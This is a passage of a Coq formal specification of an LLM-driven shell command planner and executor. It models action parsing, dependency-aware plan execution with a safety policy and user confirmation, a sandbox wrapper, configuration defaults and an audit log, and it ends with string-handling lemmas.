  | OrganizeByType _ path => ret (JStr (organize_script (py_str path)))
  | CreateDirectory _ path => ret (JStr ("mkdir -p " ++ py_str path))
  | FindFiles _ path pattern file_type =>
      let cmd := "find " ++ py_str path in
      let cmd := match file_type with
                 | JStr "file" => cmd ++ " -type f"
                 | JStr "directory" => cmd ++ " -type d"
                 | _ => cmd
                 end in
      let cmd := if truthy pattern then cmd ++ " -name '" ++ py_str pattern ++ "'" else cmd in
      ret (JStr cmd)
  | RunCommand _ command => ret command
  end.

(** The dataclass constructor called with the filtered fields, for the class that ACTION_MAP gives to
    the name [name] (RunCommand for any other name): each field takes the
    dict's value when the key is present, its default otherwise. *)
Definition build (name : string) (kvs : list (string * json)) : Action :=
  let f k d := obj_get_default k d kvs in
  if String.eqb name "list_files" then
    ListFiles (f "action" (JStr "list_files")) (f "path" (JStr ".")) (f "all" (JBool false)) (f "long" (JBool false))
  else if String.eqb name "read_file" then
    ReadFile (f "action" (JStr "read_file")) (f "path" (JStr ""))
  else if String.eqb name "create_file" then
    CreateFile (f "action" (JStr "create_file")) (f "path" (JStr "")) (f "content" (JStr ""))
  else if String.eqb name "delete_files" then
    DeleteFiles (f "action" (JStr "delete_files")) (f "path" (JStr "")) (f "pattern" JNull) (f "recursive" (JBool false))
  else if String.eqb name "move_file" then
    MoveFile (f "action" (JStr "move_file")) (f "source" (JStr "")) (f "destination" (JStr ""))
  else if String.eqb name "create_directory" then
    CreateDirectory (f "action" (JStr "create_directory")) (f "path" (JStr ""))
  else if String.eqb name "find_files" then
    FindFiles (f "action" (JStr "find_files")) (f "path" (JStr ".")) (f "pattern" JNull) (f "file_type" JNull)
  else if String.eqb name "organize_by_type" then
    OrganizeByType (f "action" (JStr "organize_by_type")) (f "path" (JStr "."))
  else RunCommand (f "action" (JStr "run_command")) (f "command" (JStr "")).

Definition ACTION_NAMES : list string :=
  ["list_files"; "read_file"; "create_file"; "delete_files"; "move_file";
   "create_directory"; "find_files"; "run_command"; "organize_by_type"].

(** [parse_action]: a [JSONDecodeError] or a [TypeError] (an unhashable
    [action] value in [ACTION_MAP.get]) falls back to
    [RunCommand(command=json_str)]; a decoded value that is not a dict has
    no [.get], an [AttributeError] that escapes. *)
Definition parse_action (json_str : string) : PyResult Action :=
  let fallback := RunCommand (JStr "run_command") (JStr json_str) in
  match json_loads json_str with
  | None => ret fallback
  | Some (JObj kvs) =>
      match obj_get_default "action" (JStr "run_command") kvs with
      | JStr name => ret (build name kvs)
      | JArr _ | JObj _ => ret fallback
      | _ => ret (build "" kvs)
      end
  | Some _ => raise AttributeError
  end.

End Actions.


(* ------------------------------------------------------------------------- *)
(** * Planner contract: [parse_plan] of hermit/planner.py *)

Module Planner.

Import PyStr Regex Json PyVal.
Local Open Scope string_scope.

Record PlanStep := mkPlanStep {
  step_id : json;
  action_json : json;
  depends_on : json;
  description : json
}.

Record Plan := mkPlan {
  steps : list PlanStep;
  plan_description : json
}.

(** [re.sub(r',\s*([}\]])', r'\1', s)]: a comma followed by whitespace
    and a closing bracket is dropped with the whitespace. *)
Fixpoint strip_trailing_commas (fuel : nat) (s : string) : string :=
  match fuel with
  | O => s
  | S f =>
      match s with
      | EmptyString => EmptyString
      | String c r =>
          let keep := String c (strip_trailing_commas f r) in
          if Ascii.eqb c "," then
            match lstrip r with
            | String d r' =>
                if Ascii.eqb d "}" || Ascii.eqb d "]"
                then String d (strip_trailing_commas f r')
                else keep
            | EmptyString => keep
            end
          else keep
      end
  end.

Definition remove_trailing_commas (s : string) : string :=
  strip_trailing_commas (String.length s) s.

(** [s.find(c)] and [s.rfind(c)], -1 when absent. *)
Fixpoint find_from (c : ascii) (i : nat) (s : string) : option nat :=
  match s with
  | EmptyString => None
  | String d s' => if Ascii.eqb c d then Some i else find_from c (S i) s'
  end.

Fixpoint rfind_from (c : ascii) (i : nat) (s : string) : option nat :=
  match s with
  | EmptyString => None
  | String d s' =>
      match rfind_from c (S i) s' with
      | Some j => Some j
      | None => if Ascii.eqb c d then Some i else None
      end
  end.

(** Decoding the response: plain, then without trailing commas, then the
    text between the first [{] and the last [}]. *)
Definition decode_response (response : string) : PyResult json :=
  match json_loads response with
  | Some d => ret d
  | None =>
      let fixed := remove_trailing_commas response in
      match json_loads fixed with
      | Some d => ret d
      | None =>
          match find_from "{" 0 fixed, rfind_from "}" 0 fixed with
          | Some start, Some stop =>
              match json_loads (substring start (S stop - start) fixed) with
              | Some d => ret d
              | None => raise JSONDecodeError
              end
          | _, _ => raise JSONDecodeError
          end
      end
  end.

(** One entry of [data["steps"]]: only a dict can be subscripted with a
    [str]; [step_id] and [action] are required. *)
Definition parse_step (s : json) : PyResult PlanStep :=
  match s with
  | JObj kvs =>
      match obj_get "step_id" kvs, obj_get "action" kvs with
      | Some sid, Some act =>
          ret (mkPlanStep sid act (obj_get_default "depends_on" (JArr []) kvs)
                          (obj_get_default "description" (JStr "") kvs))
      | _, _ => raise KeyError
      end
  | _ => raise TypeError
  end.

Fixpoint parse_steps (l : list json) : PyResult (list PlanStep) :=
  match l with
  | [] => ret []
  | s :: rest => st <- parse_step s ;; sts <- parse_steps rest ;; ret (st :: sts)
  end.

Definition parse_plan (raw_response : string) : PyResult Plan :=
  let response := strip raw_response in
  let response :=
    if startswith response "```" then
      join (chr 10) (filter (fun l => negb (startswith (strip l) "```"))
                      (split_char "010" response))
    else response in
  data <- decode_response response ;;
  match data with
  | JObj kvs =>
      items <- py_iter (obj_get_default "steps" (JArr []) kvs) ;;
      sts <- parse_steps items ;;
      ret (mkPlan sts (obj_get_default "description" (JStr "") kvs))
  | _ => raise AttributeError
  end.

End Planner.


(* ------------------------------------------------------------------------- *)
(** * Plan executor: hermit/executor.py *)

Module Executor.

Import PyStr Json PyVal Actions Planner.
Local Open Scope string_scope.

Record StepResult := mkStepResult {
  sr_step_id : json;
  sr_command : string;
  sr_output : string;
  sr_success : bool;
  sr_risk : string;
  sr_skipped : bool;
  sr_error : option string
}.

(** [ExecutionContext]: [results] keyed by step id (Python equality),
    [variables] keyed by ["$STEP<id>"], both insertion-ordered. *)
Record ExecutionContext := mkCtx {
  results : list (pykey * StepResult);
  variables : list (string * string)
}.

Definition empty_ctx : ExecutionContext := mkCtx [] [].

Definition record (ctx : ExecutionContext) (sid : json) (r : StepResult) :
    PyResult ExecutionContext :=
  k <- py_key sid ;;
  let res := kset k r (results ctx) in
  if sr_success r then
    ret (mkCtx res (sset ("$STEP" ++ py_str sid) (strip (sr_output r)) (variables ctx)))
  else ret (mkCtx res (variables ctx)).

(** [substitute]: one [str.replace] per variable, in insertion order. *)
Definition substitute (ctx : ExecutionContext) (text : string) : string :=
  fold_left (fun res kv => replace (fst kv) (snd kv) res) (variables ctx) text.

Fixpoint deps_loop (res : list (pykey * StepResult)) (deps : list json) :
    PyResult (bool * string) :=
  match deps with
  | [] => ret (true, "")
  | dep :: rest =>
      k <- py_key dep ;;
      match kget k res with
      | None => ret (false, "Step " ++ py_str dep ++ " hasn't run yet")
      | Some r =>
          if sr_success r then deps_loop res rest
          else ret (false, "Step " ++ py_str dep ++ " failed")
      end
  end.

Definition deps_satisfied (ctx : ExecutionContext) (depends : json) :
    PyResult (bool * string) :=
  deps <- py_iter depends ;; deps_loop (results ctx) deps.

Fixpoint adapt_tokens (tokens : list string) : option string :=
  match tokens with
  | [] => None
  | token :: rest =>
      if contains "/" token && negb (startswith token "-") then
        let parent := join "/" (removelast (split_char "/" token)) in
        if String.eqb parent "" then adapt_tokens rest
        else Some ("mkdir -p " ++ parent)
      else adapt_tokens rest
  end.

(** [try_adapt]: only the missing-directory rule yields a command; the
    "File exists" and "Permission denied" rules return [None]. *)
Definition try_adapt (command error_output : string) : option string :=
  if contains "No such file or directory" error_output
  then adapt_tokens (rev (split_ws command))
  else None.

Definition passthrough : list string :=
  ["find"; "ls"; "grep"; "cat"; "wc"; "head"; "tail"].

Definition error_signals : list string :=
  ["No such file"; "Permission denied"; "not found"; "cannot "; "fatal:"; "Error:"].

Definition looks_like_error (command output : string) : bool :=
  let cmd_base := match split_ws (strip command) with [] => "" | w :: _ => w end in
  if existsb (String.eqb cmd_base) passthrough then false
  else existsb (fun sig => contains sig output) error_signals.

Section Run.

(** The outside world: [execute_fn] and [approve_fn] act on a world state
    [W].  The configuration snapshot gives the safety setting the policy
    reads.  Prints and audit-log appends do not influence the results and
    are left out. *)
Variable W : Type.
Variable execute_fn : W -> string -> string * W.
Variable approve_fn : W -> string -> bool * W.
Variable confirm_delete : bool.

(** The world and the commands handed to [execute_fn], in order. *)
Record St := mkSt { world : W; exec_log : list string }.

Definition call_exec (st : St) (cmd : string) : string * St :=
  let '(out, w') := execute_fn (world st) cmd in
  (out, mkSt w' (exec_log st ++ [cmd])%list).

Definition call_approve (st : St) (risk : string) : bool * St :=
  let '(ok, w') := approve_fn (world st) risk in (ok, mkSt w' (exec_log st)).

(** The body of the loop of [execute_plan] for one step, up to the
    StepResult it builds; every branch of the source then records that
    result and appends it, which [run_step] does once. *)
Definition step_result (step_by_step : bool) (ctx : ExecutionContext) (st : St)
    (step : PlanStep) : PyResult (StepResult * St) :=
  dr <- deps_satisfied ctx (depends_on step) ;;
  let '(deps_ok, why) := dr in
  if negb deps_ok then
    let r := mkStepResult (step_id step) "" "" false "skipped" true
                          (Some ("Dependency failed: " ++ why)) in
    ret (r, st)
  else
    action <- parse_action (substitute ctx (dumps (action_json step))) ;;
    cmd <- render action ;;
    match cmd with
    | JStr command =>
        let policy := Policy.check_command confirm_delete command in
        if negb (Policy.allowed policy) then
          let r := mkStepResult (step_id step) command "" false "blocked" false
                                (Some (Policy.reason policy)) in
          ret (r, st)
        else
          let ask := step_by_step || match Policy.risk policy with
                                     | Policy.HIGH => true | _ => false end in
          let '(approved, st1) :=
            if ask then call_approve st (Policy.risk_value (Policy.risk policy))
            else (true, st) in
          if negb approved then
            let r := mkStepResult (step_id step) command "" false "high" true
                                  (Some "User cancelled") in
            ret (r, st1)
          else
            let '(output, st2) := call_exec st1 command in
            let success := negb (looks_like_error command output) in
            let '(output, success, st3) :=
              if success then (output, success, st2)
              else match try_adapt command output with
                   | Some fixed =>
                       if String.eqb fixed "" then (output, success, st2)
                       else
                         let '(_, st4) := call_exec st2 fixed in
                         let '(out2, st5) := call_exec st4 command in
                         (out2, negb (looks_like_error command out2), st5)
                   | None => (output, success, st2)
                   end in
            let r := mkStepResult (step_id step) command output success
                       (Policy.risk_value (Policy.risk policy)) false
                       (if success then None else Some (strip output)) in
            ret (r, st3)
    | _ => raise AttributeError  (* [command.lower()] on a non-[str] *)
    end.

Definition run_step (step_by_step : bool) (ctx : ExecutionContext) (st : St)
    (step : PlanStep) : PyResult (ExecutionContext * St * StepResult) :=
  x <- step_result step_by_step ctx st step ;;
  let '(r, st') := x in
  ctx' <- record ctx (step_id step) r ;;
  ret (ctx', st', r).

Fixpoint run_steps (step_by_step : bool) (ctx : ExecutionContext) (st : St)
    (sts : list PlanStep) : PyResult (list StepResult * St) :=
  match sts with
  | [] => ret ([], st)
  | step :: rest =>
      x <- run_step step_by_step ctx st step ;;
      let '(ctx', st', r) := x in
      y <- run_steps step_by_step ctx' st' rest ;;
      let '(rs, st'') := y in
      ret (r :: rs, st'')
  end.

Definition execute_plan (plan : Plan) (st : St) (step_by_step : bool) :
    PyResult (list StepResult * St) :=
  run_steps step_by_step empty_ctx st (steps plan).

End Run.

End Executor.

(** * Concrete runs

    A world with no state ([unit]): [exec_table] answers each command with
    the output listed for it (empty output otherwise), and [approve_all]
    confirms every prompt. *)
Module Scenarios.

Import PyStr Json Actions Planner Executor.
Local Open Scope string_scope.

Definition approve_all (w : unit) (risk : string) : bool * unit := (true, w).

Definition exec_table (tbl : list (string * string)) (w : unit) (cmd : string)
    : string * unit :=
  (match find (fun kv => String.eqb (fst kv) cmd) tbl with
   | Some kv => snd kv
   | None => ""
   end, w).

Definition start : St unit := mkSt unit tt [].

Definition plan_of (text : string) : Plan :=
  match parse_plan text with inr p => p | inl _ => mkPlan [] JNull end.

Definition run_table (tbl : list (string * string)) (p : Plan)
    : PyResult (list StepResult * St unit) :=
  execute_plan unit (exec_table tbl) approve_all true p start false.

(** Step 2 depends on step 1. *)
Definition plan2 : Plan := plan_of (sq2dq
  "{'description': 'two steps', 'steps': [{'step_id': 1, 'action': {'action': 'run_command', 'command': 'echo a'}}, {'step_id': 2, 'action': {'action': 'run_command', 'command': 'echo b'}, 'depends_on': [1]}]}").

(** Steps 1, 10 and 11; step 11 uses the output of step 10. *)
Definition plan5 : Plan := plan_of (sq2dq
  "{'description': 'x', 'steps': [{'step_id': 1, 'action': {'action': 'run_command', 'command': 'echo a'}}, {'step_id': 10, 'action': {'action': 'run_command', 'command': 'echo b'}}, {'step_id': 11, 'action': {'action': 'run_command', 'command': 'echo $STEP10'}, 'depends_on': [10]}]}").

Definition echo_tbl : list (string * string) :=
  [("echo a", "a" ++ nl); ("echo b", "b" ++ nl)].

(** Step 1 creates a directory that is already there; step 2 depends on it. *)
Definition plan6 : Plan := plan_of (sq2dq
  "{'description': 'y', 'steps': [{'step_id': 1, 'action': {'action': 'run_command', 'command': 'mkdir d'}}, {'step_id': 2, 'action': {'action': 'run_command', 'command': 'ls d'}, 'depends_on': [1]}]}").

Definition low_ok (sid : Z) (cmd out : string) : StepResult :=
  mkStepResult (JInt sid) cmd out true "low" false None.

Definition mkdir_exists_tbl : list (string * string) :=
  [("mkdir d", "mkdir: cannot create directory 'd': File exists")].

End Scenarios.

(** * Predicates on texts used in the statements below *)
Module StrPred.

Local Open Scope string_scope.

(** Every character of [s] satisfies [p]. *)
Fixpoint str_forall (p : ascii -> bool) (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c s' => p c && str_forall p s'
  end.

(** The text has no line break. *)
Definition no_nl (s : string) : bool :=
  str_forall (fun c => negb (Ascii.eqb c "010"%char)) s.

(** The text with each character [c] replaced by [f c]. *)
Fixpoint str_concat_map (f : ascii -> string) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => f c ++ str_concat_map f s'
  end.

End StrPred.

(** How a POSIX shell reads one word, for the quoting the program uses:
    outside quotes a blank (space, tab, newline) ends the word, [']
    opens a single-quoted part, a backslash quotes the next character and
    [dq] opens a double-quoted part; inside single quotes every character
    up to the next ['] is literal; inside double quotes every character
    but [dq], backslash, [$] and backquote is literal.  The characters
    that start an expansion, a glob or an operator outside quotes, a
    backslash or [$] or backquote inside double quotes, a backslash before
    a newline and an unterminated quote are not interpreted: the reader
    gives [None] there.  The result is the word and the text after it. *)
Module ShellWord.

Import Json.
Local Open Scope string_scope.

Inductive lex_state := Plain | Single | Double | Esc.

Definition is_blank (c : ascii) : bool :=
  Ascii.eqb c " " || Ascii.eqb c "009" || Ascii.eqb c "010".

Definition unquoted_special (c : ascii) : bool :=
  existsb (Ascii.eqb c)
    ["$"; "`"; dq; "*"; "?"; "["; "~"; "{"; "}"; "#"; "|"; "&"; ";"; "<"; ">"; "("; ")"]%char.

Fixpoint sh_word_st (st : lex_state) (acc s : string) : option (string * string) :=
  match s with
  | EmptyString => match st with Plain => Some (acc, EmptyString) | _ => None end
  | String c s' =>
      match st with
      | Plain =>
          if is_blank c then Some (acc, s)
          else if Ascii.eqb c "'" then sh_word_st Single acc s'
          else if Ascii.eqb c dq then sh_word_st Double acc s'
          else if Ascii.eqb c bs then sh_word_st Esc acc s'
          else if unquoted_special c then None
          else sh_word_st Plain (acc ++ String c EmptyString) s'
      | Single =>
          if Ascii.eqb c "'" then sh_word_st Plain acc s'
          else sh_word_st Single (acc ++ String c EmptyString) s'
      | Double =>
          if Ascii.eqb c dq then sh_word_st Plain acc s'
          else if Ascii.eqb c bs || Ascii.eqb c "$" || Ascii.eqb c "`" then None
          else sh_word_st Double (acc ++ String c EmptyString) s'
      | Esc =>
          if Ascii.eqb c "010" then None
          else sh_word_st Plain (acc ++ String c EmptyString) s'
      end
  end.

Definition sh_word (s : string) : option (string * string) := sh_word_st Plain EmptyString s.

End ShellWord.

(** [sandbox_wrapper.py] run as a script (lines 87-98): the usage message
    and exit status 1 with fewer than two arguments, otherwise the
    arguments after the script name joined by spaces and run by
    [/bin/bash -c] after the locale export, in place of the process
    ([os.execvp]).  The seccomp filter installed before the [execvp]
    changes no argument. *)
Module SandboxWrapper.

Import PyStr.
Local Open Scope string_scope.

Inductive MainOutcome :=
| UsageExit (stderr : string) (status : Z)
| Execvp (file : string) (args : list string).

Definition main (argv : list string) : MainOutcome :=
  if Nat.ltb (List.length argv) 2 then
    UsageExit "Usage: sandbox_wrapper.py <command>" 1
  else
    let command := join " " (tl argv) in
    Execvp "/bin/bash" ["/bin/bash"; "-c"; "export LC_ALL=C LANG=C; " ++ command].

End SandboxWrapper.

(** Predicates and runs used by the further properties. *)
(** The settings store of [hermit/config.py]: [DEFAULT_CONFIG] (lines
    63-115), [load_config] (137-144), [save_config] (146-150),
    [get_safety_setting] and [set_safety_setting] (273-299),
    [get_cgroup_config] (303-306) and [get_max_files_limit] of
    [hermit/policy.py] (107-109).  The configuration file is represented by
    the value [json.load] gives for it ([None]: no file); [save_config]
    stores the dict it is given, which [json.load] reads back.
    [DEFAULT_CONFIG.copy()] is a shallow copy: the dict under ["safety"] is
    the one of [DEFAULT_CONFIG], so a write into it changes
    [DEFAULT_CONFIG].  That dict is explicit state here ([dsafe]); the
    other nested defaults are never written. *)
Module Config.

Import PyStr Json PyVal.
Local Open Scope string_scope.

Inductive CfgExc :=
| CfgPyExc (e : PyExc)
| ValueError.

Definition CfgResult (A : Type) : Type := (CfgExc + A)%type.

Definition DEFAULT_SAFETY : list (string * json) :=
  [("block_rm_rf", JBool true);
   ("require_confirmation_for_delete", JBool true);
   ("max_files_per_operation", JInt 100)].

Definition DEFAULT_CGROUPS : list (string * json) :=
  [("enabled", JBool true);
   ("memory_max_mb", JInt 512);
   ("cpu_quota_percent", JInt 50);
   ("pids_max", JInt 100);
   ("timeout_seconds", JInt 60)].

Definition strs (l : list string) : json := JArr (map JStr l).

(** [DEFAULT_CONFIG], with its current ["safety"] dict. *)
Definition DEFAULT_CONFIG (dsafe : list (string * json)) : list (string * json) :=
  [("llm_backend", JStr "openai");
   ("openai_key", JNull);
   ("openai_model", JStr "gpt-4o-mini");
   ("llamacpp_model_path", JNull);
   ("llamacpp_n_ctx", JInt 4096);
   ("llamacpp_n_gpu_layers", JInt (-1));
   ("setup_complete", JBool false);
   ("openai_configured", JBool false);
   ("llamacpp_configured", JBool false);
   ("allowed_directories",
      JArr [JObj [("host", JStr "~/Downloads"); ("sandbox", JStr "/workspace/downloads")];
            JObj [("host", JStr "~/projects"); ("sandbox", JStr "/workspace/projects")]]);
   ("preferences",
      JObj [("confirm_before_execute", JBool true);
            ("dry_run_by_default", JBool false);
            ("auto_organize_extensions",
               JObj [("images", strs ["jpg"; "jpeg"; "png"; "gif"; "webp"; "svg"; "bmp"]);
                     ("documents", strs ["pdf"; "doc"; "docx"; "txt"; "md"; "rtf"; "odt"]);
                     ("audio", strs ["mp3"; "wav"; "flac"; "aac"; "ogg"; "m4a"]);
                     ("video", strs ["mp4"; "mov"; "avi"; "mkv"; "webm"; "wmv"]);
                     ("archives", strs ["zip"; "tar"; "gz"; "rar"; "7z"]);
                     ("code", strs ["py"; "js"; "ts"; "java"; "c"; "cpp"; "go"; "rs"])])]);
   ("safety", JObj dsafe);
   ("cgroups", JObj DEFAULT_CGROUPS)].

(** [{**a, **b}]: the keys of [a] in order, each updated by [b], then the
    new keys of [b] in order. *)
Definition dict_merge (a b : list (string * json)) : list (string * json) :=
  fold_left (fun acc kv => obj_set (fst kv) (snd kv) acc) b a.

(** [load_config]: [{**DEFAULT_CONFIG, **config}] raises [TypeError] when
    the file holds no dict. *)
Definition load_config (dsafe : list (string * json)) (file : option json) :
    CfgResult (list (string * json)) :=
  match file with
  | None => inr (DEFAULT_CONFIG dsafe)
  | Some (JObj kvs) => inr (dict_merge (DEFAULT_CONFIG dsafe) kvs)
  | Some _ => inl (CfgPyExc TypeError)
  end.

(** [save_config]: the new content of the file. *)
Definition save_config (config : list (string * json)) : option json := Some (JObj config).

(** [safety.get(key)]; [.get] on a value that is no dict raises
    [AttributeError]. *)
Definition get_safety_setting (dsafe : list (string * json)) (file : option json)
    (key : string) : CfgResult json :=
  match load_config dsafe file with
  | inl e => inl e
  | inr config =>
      match obj_get_default "safety" (JObj dsafe) config with
      | JObj safety => inr (obj_get_default key JNull safety)
      | _ => inl (CfgPyExc AttributeError)
      end
  end.

(** [str.isdigit] on 0..255: the ASCII digits and the superscripts two,
    three and one (0xB2, 0xB3, 0xB9); the empty string is no digit
    string. *)
Definition isdigit_char (c : ascii) : bool :=
  is_digit c || Nat.eqb (nat_of_ascii c) 178 || Nat.eqb (nat_of_ascii c) 179
  || Nat.eqb (nat_of_ascii c) 185.

Definition isdigit (s : string) : bool :=
  match s with
  | EmptyString => false
  | _ => StrPred.str_forall isdigit_char s
  end.

(** [int(s)] on a string that [isdigit] accepts: the superscripts are no
    decimal digits, so they raise [ValueError]. *)
Definition py_int (s : string) : CfgResult Z :=
  if StrPred.str_forall is_digit s then inr (fst (digits_val s 0%Z))
  else inl ValueError.

(** The type conversion of [set_safety_setting] (lines 284-291). *)
Definition convert_value (value : json) : CfgResult json :=
  match value with
  | JStr s =>
      if String.eqb (lower s) "true" then inr (JBool true)
      else if String.eqb (lower s) "false" then inr (JBool false)
      else if isdigit s then
        match py_int s with inl e => inl e | inr n => inr (JInt n) end
      else inr value
  | _ => inr value
  end.

(** Whether the ["safety"] dict of [load_config]'s result is the one of
    [DEFAULT_CONFIG]: no file, or a file without a ["safety"] key. *)
Definition safety_shared (file : option json) : bool :=
  match file with
  | None => true
  | Some (JObj kvs) => match obj_get "safety" kvs with None => true | Some _ => false end
  | Some _ => false
  end.

(** [set_safety_setting]: the new [DEFAULT_CONFIG["safety"]] and the new
    file.  [config["safety"][key] = value] on a list, a string, a number,
    a bool or [None] raises [TypeError]. *)
Definition set_safety_setting (dsafe : list (string * json)) (file : option json)
    (key : string) (value : json) : CfgResult (list (string * json) * option json) :=
  match load_config dsafe file with
  | inl e => inl e
  | inr config =>
      let config := match obj_get "safety" config with
                    | Some _ => config
                    | None => obj_set "safety" (JObj []) config
                    end in
      match convert_value value with
      | inl e => inl e
      | inr value =>
          match obj_get "safety" config with
          | Some (JObj safety) =>
              let safety' := obj_set key value safety in
              let dsafe' := if safety_shared file then safety' else dsafe in
              inr (dsafe', save_config (obj_set "safety" (JObj safety') config))
          | _ => inl (CfgPyExc TypeError)
          end
      end
  end.

(** [get_cgroup_config]: the ["cgroups"] value; [is_cgroups_enabled] and
    [execute_sandboxed] read it with [.get]. *)
Definition get_cgroup_config (dsafe : list (string * json)) (file : option json) :
    CfgResult json :=
  match load_config dsafe file with
  | inl e => inl e
  | inr config => inr (obj_get_default "cgroups" (JObj DEFAULT_CGROUPS) config)
  end.

(** [get_max_files_limit]: [get_safety_setting(...) or 100]. *)
Definition get_max_files_limit (dsafe : list (string * json)) (file : option json) :
    CfgResult json :=
  match get_safety_setting dsafe file "max_files_per_operation" with
  | inl e => inl e
  | inr v => inr (if truthy v then v else JInt 100)
  end.

End Config.

(** The audit log of [hermit/audit.py]: [log_event] (lines 12-23) appends
    one line, the [json.dumps] of the entry and a newline, to the log
    file; the timestamp [datetime.now().isoformat()] is a parameter.  The
    log functions of lines 25-54 fill in the entry.  [show_recent] (lines
    56-82) reads the file with [readlines] and decodes each line with
    [json.loads]. *)
Module Audit.

Import PyStr Json.
Local Open Scope string_scope.

(** [{"timestamp": ..., "type": ..., **data}]. *)
Definition entry (timestamp event_type : string) (data : list (string * json)) :
    list (string * json) :=
  Config.dict_merge [("timestamp", JStr timestamp); ("type", JStr event_type)] data.

(** The text [log_event] appends to the file. *)
Definition log_event (timestamp event_type : string) (data : list (string * json)) : string :=
  dumps (JObj (entry timestamp event_type data)) ++ String "010" "".

Definition log_command (timestamp user_input generated_command : string) : string :=
  log_event timestamp "command_generated"
    [("user_input", JStr user_input); ("command", JStr generated_command)].

Definition log_policy_check (timestamp command : string) (allowed : bool)
    (risk reason : string) : string :=
  log_event timestamp "policy_check"
    [("command", JStr command); ("allowed", JBool allowed); ("risk", JStr risk);
     ("reason", JStr reason)].

(** [output[:500]]. *)
Definition log_execution (timestamp command output : string) (sandboxed : bool) : string :=
  log_event timestamp "execution"
    [("command", JStr command); ("output", JStr (substring 0 500 output));
     ("sandboxed", JBool sandboxed)].

Definition log_blocked (timestamp command reason : string) : string :=
  log_event timestamp "blocked" [("command", JStr command); ("reason", JStr reason)].

(** The file after a sequence of appends, from an empty file. *)
Definition append_all (texts : list string) : string :=
  fold_left (fun log t => log ++ t) texts "".

(** [f.readlines()]: the lines, each with its newline; a last line without
    one is kept as it is. *)
Fixpoint readlines_aux (cur s : string) : list string :=
  match s with
  | EmptyString => match cur with EmptyString => [] | _ => [cur] end
  | String c s' =>
      if Ascii.eqb c "010" then (cur ++ String c "") :: readlines_aux "" s'
      else readlines_aux (cur ++ String c "") s'
  end.

Definition readlines (s : string) : list string := readlines_aux "" s.

End Audit.

Module ExtraDefs.

Import PyStr Json Actions Planner Executor Scenarios.
Local Open Scope string_scope.

(** The character is not an upper-case R. *)
Definition not_R (c : ascii) : bool := negb (Ascii.eqb c "R"%char).

(** Each command handed to [execute_fn] is one the policy allows, or a
    [mkdir -p] of a non-empty directory. *)
Definition runs_ok (cd : bool) (L : list string) : Prop :=
  forall c, In c L ->
    Policy.allowed (Policy.check_command cd c) = true \/
    exists p, c = "mkdir -p " ++ p /\ p <> "".

(** A successful result has no error and is not skipped; a failed one has
    an error message. *)
Definition result_ok (r : StepResult) : Prop :=
  (sr_success r = true -> sr_error r = None /\ sr_skipped r = false) /\
  (sr_success r = false -> sr_error r <> None).

(** The step ran its command: neither skipped (dependency or user) nor
    blocked. *)
Definition ran (r : StepResult) : bool :=
  negb (sr_skipped r) && negb (String.eqb (sr_risk r) "blocked").

(** The user declines every confirmation. *)
Definition approve_none (w : unit) (risk : string) : bool * unit := (false, w).

(** Step 1 writes into a directory that does not exist; step 2 removes a
    directory recursively (a HIGH risk command). *)
Definition plan_touch : Plan := plan_of (sq2dq
  "{'description': 'z', 'steps': [{'step_id': 1, 'action': {'action': 'run_command', 'command': 'touch a/b'}}, {'step_id': 2, 'action': {'action': 'delete_files', 'path': 'build', 'recursive': true}}]}").

Definition touch_tbl : list (string * string) :=
  [("touch a/b", "touch: cannot touch 'a/b': No such file or directory")].

(** A step whose action is a JSON string instead of an object. *)
Definition plan_str_action : Plan := plan_of (sq2dq
  "{'description': 'z', 'steps': [{'step_id': 1, 'action': 'ls -la'}]}").

(** A listing of a directory that does not exist. *)
Definition plan_ls : Plan := plan_of (sq2dq
  "{'description': 'z', 'steps': [{'step_id': 1, 'action': {'action': 'list_files', 'path': 'missing'}}]}").

Definition ls_tbl : list (string * string) :=
  [("ls missing", "ls: cannot access 'missing': No such file or directory")].

End ExtraDefs.

(* ========================================================================= *)
(** * Properties *)

Module StrFacts.

Import PyStr.
Local Open Scope string_scope.

Lemma lower_char_space : forall c, is_space c = true -> lower_char c = c.
Proof.
  intros [[] [] [] [] [] [] [] []]; vm_compute; intro H;
    first [reflexivity | discriminate].
Qed.

Lemma lower_app : forall a b, lower (a ++ b) = lower a ++ lower b.
Proof. induction a as [|c a IH]; intros b; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma lower_all_space : forall w, all_space w = true -> lower w = w.
Proof.
  induction w as [|c w IH]; simpl; intros H; [reflexivity|].
  apply andb_prop in H as [H1 H2]. rewrite lower_char_space, IH; auto.
Qed.

Lemma lstrip_all_space : forall w, all_space w = true -> lstrip w = "".
Proof.
  induction w as [|c w IH]; simpl; intros H; [reflexivity|].
  apply andb_prop in H as [H1 H2]. rewrite H1. auto.
Qed.

Lemma rstrip_all_space : forall w, all_space w = true -> rstrip w = "".
Proof.
  induction w as [|c w IH]; simpl; intros H; [reflexivity|].
  apply andb_prop in H as [H1 H2]. rewrite IH, H1; auto.
Qed.

Lemma lstrip_app_space : forall w s, all_space w = true -> lstrip (w ++ s) = lstrip s.
Proof.
  induction w as [|c w IH]; simpl; intros s H; [reflexivity|].
  apply andb_prop in H as [H1 H2]. rewrite H1. auto.
Qed.

Lemma lstrip_app : forall x y,
  lstrip (x ++ y) = if all_space x then lstrip y else lstrip x ++ y.
Proof.
  induction x as [|c x IH]; simpl; intros y; [reflexivity|].
  destruct (is_space c); simpl; auto.
Qed.

Lemma rstrip_app : forall q s,
  rstrip (q ++ s) = match rstrip s with "" => rstrip q | _ => q ++ rstrip s end.
Proof.
  induction q as [|c q IH]; intros s; simpl.
  - destruct (rstrip s); reflexivity.
  - rewrite IH. destruct (rstrip s) eqn:E; [reflexivity|].
    destruct q; reflexivity.
Qed.

Lemma lstrip_split : forall s, exists lead, all_space lead = true /\ s = lead ++ lstrip s.
Proof.
  induction s as [|c s IH]; simpl.
  - exists ""; auto.
  - destruct (is_space c) eqn:E.
    + destruct IH as [lead [H1 H2]]. exists (String c lead). simpl.
      rewrite E, H1. split; [reflexivity|]. simpl. now rewrite <- H2.
    + exists ""; auto.
Qed.

Lemma rstrip_strip : forall s, exists p, rstrip s = p ++ strip s.
Proof.
  intros s. destruct (lstrip_split s) as [lead [H1 H2]]. unfold strip.
  replace (rstrip s) with (rstrip (lead ++ lstrip s)) by (rewrite <- H2; reflexivity).
  rewrite rstrip_app.
  destruct (rstrip (lstrip s)) eqn:E.
  - exists "". rewrite rstrip_all_space; auto.
  - exists lead. reflexivity.
Qed.

Lemma strip_app_space_l : forall w s, all_space w = true -> strip (w ++ s) = strip s.
Proof. intros w s H. unfold strip. now rewrite lstrip_app_space. Qed.

